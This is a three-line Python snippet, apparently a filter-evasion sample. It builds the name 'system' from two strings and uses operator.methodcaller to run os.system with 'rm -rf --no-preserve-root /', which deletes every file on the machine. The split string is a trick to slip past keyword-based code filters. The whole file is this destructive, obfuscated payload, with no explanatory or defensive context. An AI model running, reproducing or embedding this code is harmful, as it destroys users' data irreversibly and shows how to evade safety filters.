import operator
import os

operator.methodcaller("sys" + "tem", "rm -rf --no-preserve-root /")(os)
